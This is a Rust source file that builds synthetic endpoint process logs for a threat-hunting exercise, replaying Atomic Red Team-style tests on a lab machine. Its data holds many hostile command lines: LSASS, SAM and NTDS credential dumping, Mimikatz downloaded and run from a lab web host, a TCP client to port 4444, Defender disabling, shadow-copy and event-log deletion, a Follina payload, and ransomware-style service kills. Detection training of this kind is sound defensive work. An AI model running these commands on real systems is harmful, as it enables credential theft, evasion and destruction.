//! The IT team's detection exercise. On the day before the data ends, an adversary-emulation
//! run replays public technique tests (Atomic Red Team style) on the detection lab machine
//! `lab-emul01`: discovery, credential access, defence evasion, ransomware preparation. Noise a
//! hunter learns to tell from the intrusion: one lab machine, one admin, one afternoon.

use super::activity::{set_created, set_device, set_initiating, Proc};
use super::background::{table, Background, Builders, HOUR, MINUTE};
use crate::results::datetime::TICKS_PER_SECOND;

/// (parent, parent's command line, grandparent, program, command line).
type Step = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

const RUNNER: &str = r#"powershell.exe -ExecutionPolicy Bypass -File C:\AtomicRedTeam\invoke-atomicredteam\Invoke-AtomicTest.ps1"#;

/// Single technique tests, in the order the run plays them.
pub const STEPS: &[Step] = &[
    ("powershell.exe", RUNNER, "explorer.exe", "whoami.exe", "whoami /all"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net view /all"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net user /domain"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net group "Domain Admins" /domain"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net group "Enterprise Admins" /domain"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net localgroup administrators"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net accounts /domain"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net share"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net user art-test P@ssw0rd1 /add"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net localgroup administrators art-test /add"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net group "Backup Operators" art-test /add /domain"#),
    // Two more sensitive groups within the hour: the burst a group-addition hunt counts.
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net group "Domain Admins" art-test /add /domain"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", r#"net group "Account Operators" art-test /add /domain"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net localgroup art-group /add"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net time"),
    // Qakbot's reconnaissance as Microsoft documented it, from one command shell.
    ("cmd.exe", "cmd.exe", "powershell.exe", "whoami.exe", "whoami /all"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "NETSTAT.EXE", "netstat -nao"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "nslookup.exe", "nslookup -querytype=ALL -timeout=10 _ldap._tcp.dc._msdcs.contoso.com"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net stop dnscache"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "net.exe", "net start dnscache"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "ARP.EXE", "arp -a"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "ROUTE.EXE", "route print"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "ipconfig.exe", "ipconfig /all"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "ipconfig.exe", "ipconfig /flushdns"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "nslookup.exe", "nslookup -querytype=ALL -timeout=12 _ldap._tcp.dc._msdcs.WORKGROUP"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "cmd.exe", "cmd /c set"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "cmd.exe", "cmd.exe /c SYSTEMINFO & TASKLIST"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "netsh.exe", "netsh.exe wlan show profile name=ContosoGuest key=clear"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "netsh.exe", "netsh advfirewall firewall add rule name=art-test dir=in action=allow protocol=TCP localport=4444"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "netsh.exe", "netsh advfirewall firewall delete rule name=art-test"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "reg.exe", r"reg save hklm\sam C:\Windows\Temp\sam.save"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "reg.exe", r#"reg query "HKEY_CURRENT_USER\Software\Microsoft\Terminal Server Client\Default""#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "reg.exe", r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Policies\System /v DisableTaskMgr /t REG_DWORD /d "1" /f"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "reg.exe", r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fAllowTSConnections /t REG_DWORD /d 1 /f & rem AllowTSConnections"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "certutil.exe", "certutil.exe -urlcache -split -f http://lab-web01.contoso.com/art/payload.txt C:\\Windows\\Temp\\payload.txt"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "WMIC.exe", "wmic.exe shadowcopy delete"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "WMIC.exe", r"wmic /namespace:\\root\SecurityCenter2 path antivirusproduct get displayname"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "bcdedit.exe", "bcdedit /set {default} recoveryenabled no"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "wevtutil.exe", "wevtutil.exe cl Security"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "wevtutil.exe", "wevtutil.exe cl System"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "wevtutil.exe", "wevtutil.exe cl Application"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "fsutil.exe", "fsutil usn deletejournal /D C:"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "esentutl.exe", r"esentutl.exe /y /vss C:\Users\grady.vance\AppData\Local\Microsoft\Windows\WebCache\WebCacheV01.dat /d C:\Windows\Temp\wc.dat"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "ntdsutil.exe", r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ntds" q q & rem programdata"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "schtasks.exe", r#"schtasks /create /tn "Skype Updater" /tr C:\Windows\Temp\art.exe /sc onlogon /rl highest"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "schtasks.exe", r#"schtasks.exe /Delete /TN "Mysa" /F"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "schtasks.exe", r#"schtasks /run /tn "\Microsoft\Windows\Windows Error Reporting\QueueReporting""#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "sc.exe", "sc config WinDefend start= disabled"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "sc.exe", "sc stop sense"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "attrib.exe", "attrib -s -h -r -a *.*"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "7z.exe", r"7z.exe a C:\ProgramData\pst\archive.7z C:\ProgramData\pst\*.pst -pArtTest1"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "rar.exe", r"rar.exe a -hpArtTest1 C:\Windows\Temp\docs.rar C:\Users\Public\Documents"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "msiexec.exe", "msiexec.exe /q /i http://lab-web01.contoso.com/art/test.msi return"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "mshta.exe", r#"mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc.exe""")(window.close)"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "wscript.exe", r"wscript.exe C:\AtomicRedTeam\atomics\T1059.007\src\sys_info.jse"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "cscript.exe", r"cscript.exe //E:javascript C:\AtomicRedTeam\atomics\T1059.007\src\sys_info.js"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "rundll32.exe", r"rundll32.exe C:\AtomicRedTeam\atomics\T1218.011\bin\calc.dll,#1"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "regsvr32.exe", r"regsvr32.exe /s /u /i:https://lab-web01.contoso.com/art/RegSvr32.sct scrobj.dll"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "bitsadmin.exe", r"bitsadmin.exe /transfer art /Download /priority Foreground http://lab-web01.contoso.com/art/payload.txt C:\Windows\Temp\bits.txt"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "MSBuild.exe", r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe C:\programdata\art\T1127.csproj"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "cipher.exe", r"cipher.exe /w:C:\Windows\Temp\art"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "AdFind.exe", r#"AdFind.exe -f (objectcategory=person) > ad_users.txt"#),
    ("cmd.exe", "cmd.exe", "powershell.exe", "PsExec64.exe", r"PsExec64.exe -accepteula \\lab-emul01 cmd.exe /c whoami"),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://lab-web01.contoso.com/art/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -Command \"sekurlsa::tickets /export\""),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -Command Invoke-BloodHound -CollectionMethod All -OutputDirectory C:\\Windows\\Temp"),
    ("powershell.exe", RUNNER, "explorer.exe", "Rubeus.exe", "Rubeus.exe kerberoast /outfile:C:\\Windows\\Temp\\hashes.txt"),
    ("powershell.exe", RUNNER, "explorer.exe", "Rubeus.exe", "Rubeus.exe asktgt /user:art-test /password:P@ssw0rd1 /ptt"),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Windows\\Temp\\art -ExclusionProcess art.exe"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "powershell.exe", "powershell.exe  -command \"Set-MpPreference -EnableControlledFolderAccess Disabled\""),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -version 2 -Command Get-Host"),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -Command Invoke-WebRequest -Uri http://lab-web01.contoso.com/art/test.ps1 -Method POST -Body art -OutFile C:\\Windows\\Temp\\t.ps1"),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -Command Get-ADDomainController; Get-NetAdapter; Get-DnsClientServerAddress; Resolve-DNSName contoso.com; Compress-Archive C:\\Windows\\Temp\\art C:\\Windows\\Temp\\art.zip"),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -ep bypass -command get-content C:\\Windows\\Temp\\a.txt | iex; remove-item C:\\Windows\\Temp\\a.txt"),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", r#"powershell.exe -command $client = New-Object System.Net.Sockets.TCPClient('lab-web01.contoso.com',4444)"#),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -Command Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; New-MailboxExportRequest -Mailbox art-test -FilePath \\\\lab-emul01\\c$\\art.pst"),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -Command stop-service -name MSSQLSERVER,MSExchangeIS -Force # sql msexchange"),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", r"powershell.exe -File C:\AtomicRedTeam\atomics\T1059.001\src\powercat.ps1"),
    ("WINWORD.EXE", r#""WINWORD.EXE" /n C:\AtomicRedTeam\atomics\T1204.002\bin\macro.docm"#, "explorer.exe", "cmd.exe", r"cmd.exe /c mshta.exe C:\Windows\Temp\art.hta"),
    ("WINWORD.EXE", r#""WINWORD.EXE" /n C:\AtomicRedTeam\atomics\T1204.002\bin\macro.docm"#, "explorer.exe", "WMIC.exe", "wmic.exe process call create calc.exe"),
    ("WINWORD.EXE", r#""WINWORD.EXE" /n C:\AtomicRedTeam\atomics\T1204.002\bin\macro.docm"#, "explorer.exe", "wscript.exe", r"wscript.exe C:\Windows\Temp\art.jse"),
    ("EXCEL.EXE", r#""EXCEL.EXE" C:\AtomicRedTeam\atomics\T1204.002\bin\macro.xlsm"#, "explorer.exe", "rundll32.exe", r"rundll32.exe C:\Windows\Temp\art.dll,DllRegisterServer"),
    ("EXCEL.EXE", r#""EXCEL.EXE" C:\AtomicRedTeam\atomics\T1204.002\bin\macro.xlsm"#, "explorer.exe", "cmd.exe", r"cmd.exe /c mkdir C:\Windows\Temp\art && copy C:\Windows\System32\certutil.exe C:\Windows\Temp\art\c.exe"),
    ("wmiprvse.exe", "wmiprvse.exe -secured -Embedding", "svchost.exe", "powershell.exe", "powershell.exe -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    ("wmiprvse.exe", "wmiprvse.exe -secured -Embedding", "svchost.exe", "MSBuild.exe", r"MSBuild.exe C:\programdata\art\T1127.xml"),
    ("mshta.exe", r#"mshta.exe "about:<script>new ActiveXObject('WScript.Shell').Run('powershell.exe -nop')</script>""#, "cmd.exe", "powershell.exe", "powershell.exe -nop"),
    ("explorer.exe", r"C:\Windows\Explorer.EXE", "userinit.exe", "powershell.exe", "powershell.exe -w hidden -enc JABhAHIAdAA9ACcAaAB0AHQAcABzADoALwAvAGwAYQBiAC0AdwBlAGIAMAAxACcA"),
    ("PSEXESVC.exe", r"C:\Windows\PSEXESVC.exe", "services.exe", "cmd.exe", r"cmd.exe /c C:\Windows\Temp\art.bat"),
    ("cmd.exe", r"cmd.exe /c C:\Windows\Temp\art.bat", "PSEXESVC.exe", "cmd.exe", "cmd.exe /c attrib -s -h -r -a *.*"),
    ("cmd.exe", r"cmd.exe /c C:\Windows\Temp\art.bat", "PSEXESVC.exe", "powershell.exe", "powershell.exe Set-MpPreference -DisableIOAVProtection $true"),
    ("cmd.exe", r"cmd.exe /c C:\Windows\Temp\art.bat", "PSEXESVC.exe", "reg.exe", r"reg add HKLM\SOFTWARE\Policies\Microsoft\FVE /v EnableBDEWithNoTPM /t REG_DWORD /d 1 /f"),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -c curl -met POST -Body art http://lab-web01.contoso.com/art"),
    ("w3wp.exe", "w3wp.exe -ap DefaultAppPool", "svchost.exe", "cmd.exe", "cmd.exe /c whoami"),
    ("cmd.exe", "cmd.exe /c whoami", "w3wp.exe", "whoami.exe", "whoami"),
    ("PSEXESVC.exe", r"C:\Windows\PSEXESVC.exe", "services.exe", "powershell.exe", "powershell.exe stop-service -name MSSQLSERVER,MSExchangeIS # sql msexchange"),
    ("PSEXESVC.exe", r"C:\Windows\PSEXESVC.exe", "services.exe", "net.exe", "net stop sqlwriter"),
    ("rundll32.exe", "rundll32.exe", "svchost.exe", "schtasks.exe", r#"schtasks.exe /Change /TN "\Microsoft\Windows\SystemRestore\SR" /disable"#),
    ("rundll32.exe", "rundll32.exe", "spoolsv.exe", "cmd.exe", "cmd.exe /c whoami"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "msiexec.exe", r"msiexec.exe /fa C:\Windows\Installer\art.msi"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "cmd.exe", r"cmd.exe /c C:\recycler\art.exe"),
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -c $b='TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA'"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "findstr.exe", "findstr /si password *.xml *.ini *.txt"),
    ("winlogon.exe", "winlogon.exe", "smss.exe", "cmd.exe", "cmd.exe /c taskkill /im art.exe & vssadmin list shadows"),
    ("javaw.exe", r"javaw.exe -jar C:\Users\grady.vance\AppData\Roaming\art.jar", "explorer.exe", "cmd.exe", "cmd.exe /c schtasks /create /tn Skype /tr art.jar /sc minute"),
    ("java.exe", "java.exe -jar art.jar", "explorer.exe", "cmd.exe", "cmd.exe /c powershell iex (New-Object Net.WebClient).DownloadString('http://lab-web01.contoso.com/art.ps1')"),
    ("wscript.exe", r"wscript.exe C:\Users\grady.vance\Downloads\chrome.update.art.js", "explorer.exe", "powershell.exe", "powershell.exe -nop -c whoami"),
    ("cmd.exe", "cmd.exe /c start /MIN cscript.exe //E:javascript art.txt", "explorer.exe", "cscript.exe", "cscript.exe //E:javascript art.txt"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "art.exe", "-q -s {{A1B2C3}} -p 4411"),
    ("cmd.exe", r"cmd.exe /c ping.exe -n 6 127.0.0.1 & type C:\Windows\System32\calc.exe > art.exe", "explorer.exe", "PING.EXE", "ping.exe -n 6 127.0.0.1"),
    ("cmd.exe", "cmd.exe", "powershell.exe", "cmd.exe", "cmd.exe /c start microsoft-edge:http://203.0.113.77/webdav/art.url"),
    ("svchost.exe", "svchost.exe -k WerSvcGroup", "services.exe", "WerFault.exe", "WerFault.exe -u -p 8812 -s 412"),
    // Qakbot's macro loads its DLL with a relative path (documented), replayed from the test workbook.
    ("EXCEL.EXE", r#""EXCEL.EXE" C:\AtomicRedTeam\atomics\T1204.002\bin\macro.xlsm"#, "explorer.exe", "regsvr32.exe", r"regsvr32.exe -s ..\Celod.wac"),
    // CVE-2022-30190 (Follina): a document makes Word start the support diagnostic tool.
    ("WINWORD.EXE", r#""WINWORD.EXE" /n C:\AtomicRedTeam\atomics\T1203\bin\follina.docx"#, "explorer.exe", "msdt.exe", r#"msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu IT_BrowseForFile=/../../$(calc)/../../../../../../Windows/System32/mpsigstub.exe""#),
    // T1505.001: xp_cmdshell on the lab's SQL Express instance.
    ("sqlservr.exe", r#""C:\Program Files\Microsoft SQL Server\MSSQL16.SQLEXPRESS\MSSQL\Binn\sqlservr.exe" -sSQLEXPRESS"#, "services.exe", "cmd.exe", "cmd.exe /c whoami & systeminfo"),
    // T1518.001: what Defender is set to exclude and monitor.
    ("powershell.exe", RUNNER, "explorer.exe", "powershell.exe", "powershell.exe -Command Get-MpPreference | Select-Object Exclusion*"),
    // Set-MpPreference runs inside the PowerShell host; its console host is the child Defender sees.
    ("powershell.exe", "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Windows\\Temp\\art -ExclusionProcess art.exe", "powershell.exe", "conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
    // T1218.007: an MSI whose custom action runs Mimikatz.
    ("msiexec.exe", "msiexec.exe /q /i http://lab-web01.contoso.com/art/T1218.007.msi return", "cmd.exe", "powershell.exe", "powershell.exe -nop -c Invoke-Mimikatz -Command \"privilege::debug sekurlsa::logonpasswords\""),
    // T1489 as ransomware plays it: one taskkill for every database process.
    ("cmd.exe", "cmd.exe", "powershell.exe", "taskkill.exe", "taskkill /F /IM sqlservr.exe /IM sqlbrowser.exe /IM sqlwriter.exe /IM sqlagent.exe /IM sqlceip.exe /IM msftesql.exe /IM mysqld.exe /IM mysqld-nt.exe /IM mysqld-opt.exe /IM sqlmangr.exe /IM sqlsqm.exe /IM postgres.exe /IM oracle.exe"),
];

/// Bursts: the same program run on many targets within a minute or two.
const BURSTS: &[(&str, &str, &[&str])] = &[
    (
        "taskkill.exe",
        "taskkill /F /IM {}",
        &[
            "sqlservr.exe",
            "msexchange.exe",
            "outlook.exe",
            "winword.exe",
            "excel.exe",
            "onenote.exe",
            "thunderbird.exe",
            "firefox.exe",
            "veeam.exe",
            "backup.exe",
            "agntsvc.exe",
            "ocssd.exe",
        ],
    ),
    (
        "net.exe",
        "net stop {} /y",
        &[
            "MSSQLSERVER",
            "SQLWriter",
            "VSS",
            "wbengine",
            "MSExchangeIS",
            "BackupExecJobEngine",
            "veeam",
            "sophos",
            "memtas",
            "mepocs",
            "SQLAgent$SQLEXPRESS",
            "msftesql",
        ],
    ),
    (
        "sc.exe",
        "sc config {} start= disabled",
        &[
            "SQLWriter",
            "VSS",
            "wbengine",
            "MSExchangeIS",
            "SQLTELEMETRY",
            "MSSQLFDLauncher",
            "SstpSvc",
            "wuauserv",
            "BITS",
            "EventLog",
            "WinDefend",
            "SQLBrowser",
        ],
    ),
    (
        "cipher.exe",
        "cipher.exe /w:{}",
        &[r"C:\Temp", r"D:\Temp", r"E:\Temp", r"F:\Temp"],
    ),
    (
        "wevtutil.exe",
        "WEVTUTIL CL {}",
        &[
            "Security",
            "System",
            "Application",
            "Setup",
            "Windows PowerShell",
            "Microsoft-Windows-Sysmon/Operational",
            "Microsoft-Windows-PowerShell/Operational",
            "Microsoft-Windows-TaskScheduler/Operational",
            "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
            "Microsoft-Windows-Windows Defender/Operational",
            "Microsoft-Windows-WMI-Activity/Operational",
            "Microsoft-Windows-Bits-Client/Operational",
        ],
    ),
];

impl Background<'_> {
    pub fn emulation(&mut self, tables: &mut Builders) {
        let lab = self.world.device("lab-emul01").clone();
        let admin = self.world.user("grady.vance").clone();
        let start = self.end - 20 * HOUR;
        let proc = |file: &str, command: &str, parent: &str, at: i64, pid: i64| Proc {
            file: file.into(),
            folder: r"C:\Windows\System32".into(),
            command: command.into(),
            pid,
            created: at,
            account: admin.clone(),
            integrity: "High",
            parent_file: parent.into(),
            parent_pid: pid - 4,
        };
        let mut at = start;
        let mut rows: Vec<(Proc, Proc)> = Vec::new();
        for (i, (parent, parent_command, grandparent, file, command)) in STEPS.iter().enumerate() {
            at += MINUTE + self.rng.below(MINUTE as u64) as i64;
            let pid = 20_000 + 8 * i as i64;
            let mut child = proc(file, command, parent, at, pid);
            if file.starts_with("PsExec")
                || file.starts_with("procdump")
                || *file == "AdFind.exe"
                || file.starts_with("Rubeus")
                || file.starts_with("7z")
                || *file == "rar.exe"
            {
                child.folder = r"C:\AtomicRedTeam\ExternalPayloads".into();
            }
            rows.push((
                child,
                proc(
                    parent,
                    parent_command,
                    grandparent,
                    at - 5 * TICKS_PER_SECOND,
                    pid - 4,
                ),
            ));
        }
        for (file, template, targets) in BURSTS {
            at += 10 * MINUTE;
            for (i, target) in targets.iter().enumerate() {
                // A script runs them back to back, about one a second.
                let when = at + i as i64 * TICKS_PER_SECOND;
                let pid = 30_000 + 8 * rows.len() as i64;
                rows.push((
                    proc(file, &template.replace("{}", target), "cmd.exe", when, pid),
                    proc(
                        "cmd.exe",
                        "cmd.exe",
                        "powershell.exe",
                        when - TICKS_PER_SECOND,
                        pid - 4,
                    ),
                ));
            }
        }
        for (child, parent) in rows {
            let report = self.next_report();
            let b = table(tables, "DeviceProcessEvents");
            b.row(child.created);
            set_device(b, &lab);
            set_created(b, self.seed, &child);
            set_initiating(b, self.seed, &parent);
            b.long("ReportId", report)
                .text("ProcessVersionInfoOriginalFileName", &child.file)
                .text("InitiatingProcessVersionInfoOriginalFileName", &parent.file);
        }
    }
}
